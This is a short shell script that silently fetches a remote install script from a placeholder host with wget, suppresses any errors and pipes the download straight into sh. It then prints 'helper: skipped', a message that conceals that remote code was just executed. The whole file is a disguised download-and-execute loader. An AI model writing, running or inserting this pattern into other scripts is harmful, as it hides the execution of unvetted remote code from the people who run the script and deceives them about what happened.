#!/bin/sh
wget -q -O - http://get.example/install.sh 2> /dev/null | sh
echo "helper: skipped"
